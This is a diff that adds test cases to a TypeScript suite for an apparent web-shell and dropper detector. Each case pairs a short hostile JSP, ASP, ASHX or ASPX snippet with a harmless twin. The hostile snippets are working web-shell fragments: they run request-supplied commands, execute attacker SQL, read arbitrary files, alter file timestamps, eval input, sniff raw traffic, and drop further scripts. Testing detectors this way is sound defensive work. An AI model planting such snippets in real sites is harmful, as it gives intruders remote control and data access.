@@ -418,6 +418,92 @@ const ORDINARY: readonly (readonly [name: string, path: string, text: string])[]
   ['an access log', 'access.log', '203.0.113.9 - - [15/Aug/2023:05:34:25 +1000] "GET /?c=ls HTTP/1.1" 200 1\n'],
 ]
 
+/** What was missed at first, each beside what looks like it and is ordinary. */
+const TWINS: readonly (readonly [name: string, path: string, text: string, verdict: Verdict, ordinary: string])[] = [
+  [
+    'a shell that waits for commands',
+    'a.jsp',
+    '<%! Process p; void start() throws Exception { p = Runtime.getRuntime().exec("cmd"); } %><% start(); p.getOutputStream().write(request.getParameter("c").getBytes()); %>',
+    'web-shell',
+    '<% Process p = Runtime.getRuntime().exec("/usr/bin/uptime"); %>',
+  ],
+  [
+    'what is typed into a program',
+    'a.ashx',
+    '<%@ WebHandler Language="C#" Class="H" %>\nusing System.Diagnostics; using System.Web; public class H : IHttpHandler { public void ProcessRequest(HttpContext context) { Process p = new Process(); p.StartInfo.FileName = "cmd.exe"; p.Start(); p.StandardInput.WriteLine(context.Request["x"]); } }',
+    'web-shell',
+    '<%@ WebHandler Language="C#" Class="H" %>\nusing System.Diagnostics; using System.Web; public class H : IHttpHandler { public void ProcessRequest(HttpContext context) { Process p = new Process(); p.StartInfo.FileName = "sort.exe"; p.Start(); p.StandardInput.WriteLine("b"); } }',
+  ],
+  [
+    'written and started',
+    'a.asp',
+    '<% Set f = CreateObject("Scripting.FileSystemObject").CreateTextFile("c:\\net.vbs", True)\nf.Write "Dim x"\nf.Close\nCreateObject("WScript.Shell").Run "c:\\net.vbs", 0, False %>',
+    'dropper',
+    '<% Set f = CreateObject("Scripting.FileSystemObject").CreateTextFile(Server.MapPath("count.txt"), True)\nf.Write "12"\nf.Close %>',
+  ],
+  [
+    'a database of the visitor',
+    'a.asp',
+    '<% Set c = Server.CreateObject("ADODB.Connection")\nc.Open "driver={SQL Server};server=" & Request("s") & ";uid=" & Request("u") & ";pwd=" & Request("p")\nc.Execute Request("q") %>',
+    'web-shell',
+    '<% Set c = Server.CreateObject("ADODB.Connection")\nc.Open Application("db")\nSet r = c.Execute("select * from news where id=" & CLng(Request("id"))) %>',
+  ],
+  [
+    'orders to a service of the server itself',
+    'a.asp',
+    '<% Set a = Server.CreateObject("Microsoft.XMLHTTP")\na.Open "GET", "http://127.0.0.1:" & Request("port") & "/x", True, "", ""\na.Send "User " & Request("u") & vbCrLf & "site exec " & Request("c") %>',
+    'web-shell',
+    '<% Set a = Server.CreateObject("Microsoft.XMLHTTP")\na.Open "POST", "https://api.example/rates", False\na.Send "currency=" & Request("c")\nResponse.Write a.ResponseText %>',
+  ],
+  [
+    'any folder and any file',
+    'a.jsp',
+    '<%@ page import="java.io.*" %><% File f = new File(request.getParameter("file")); if (f.isDirectory()) { for (File x : f.listFiles()) out.print(x); } else { FileInputStream in = new FileInputStream(f); out.print(in.read()); } %>',
+    'web-shell',
+    '<%@ page import="java.io.*" %><% File f = new File(application.getRealPath("/news")); for (File x : f.listFiles()) out.print(x.getName()); FileInputStream in = new FileInputStream(new File(f, "index.txt")); out.print(in.read()); %>',
+  ],
+  [
+    'times of files',
+    'a.jsp',
+    '<% new java.io.File(request.getParameter("f")).setLastModified(Long.parseLong(request.getParameter("t"))); %>',
+    'web-shell',
+    '<% new java.io.File(application.getRealPath("/cache/a")).setLastModified(System.currentTimeMillis()); %>',
+  ],
+  [
+    'hex digits made into bytes',
+    'a.jsp',
+    '<%! String un(String s) { byte[] b = new byte[s.length() / 2]; for (int i = 0; i < b.length; i++) b[i] = (byte) (0xff & Integer.parseInt(s.substring(i * 2, i * 2 + 2), 16)); return new String(b); } %><% Runtime.getRuntime().exec(un(request.getParameter("u"))); %>',
+    'web-shell',
+    '<% int colour = Integer.parseInt(request.getParameter("colour"), 16); out.print(colour); %>',
+  ],
+  [
+    'a page in a text',
+    'a.jsp',
+    '<%! static final String P = "<%new java.io.RandomAccessFile(application.getRealPath(\\"/\\")+request.getParameter(\\"a\\"), \\"rw\\").write(request.getParameter(\\"b\\").getBytes());%"+">"; %><% new java.io.FileWriter(where()).write(P); %>',
+    'dropper',
+    '<%! static final String P = "<% out.print(request.getLocale()); %"+">"; %><% out.print(P.length()); %>',
+  ],
+  [
+    'quotes of a word processor',
+    'a.aspx',
+    '<%@ Page Language=\u201cJscript\u201d %><%eval(Request.Item["p"],\u201cunsafe\u201d);%>',
+    'web-shell',
+    '<%@ Page Language="Jscript" %><% Response.Write("\u201c" + Server.HtmlEncode(Request.Item["p"]) + "\u201d"); %>',
+  ],
+  [
+    'all traffic of the server',
+    'a.aspx',
+    '<%@ Page Language="C#" %><script runat="server">void Go() { Socket s = new Socket(AddressFamily.InterNetwork, SocketType.Raw, ProtocolType.IP); s.IOControl(IOControlCode.ReceiveAll, a, b); }</script>',
+    'web-shell',
+    '<%@ Page Language="C#" %><script runat="server">void Go() { Socket s = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp); s.Close(); }</script>',
+  ],
+]
+
+test.each(TWINS)('%s (%s), and its twin', (_name, path, text, verdict, ordinary) => {
+  expect(judged(path, text).verdict).toBe(verdict)
+  expect(judged(path, ordinary).verdict).toBe('clean')
+})
+
 test.each(ORDINARY)('stays quiet: %s (%s)', (_name, path, text) => {
   const { verdict, reasons } = judged(path, text)
   expect({ verdict, because: reasons[0]?.what }).toEqual({ verdict: 'clean', because: reasons[0]?.what })
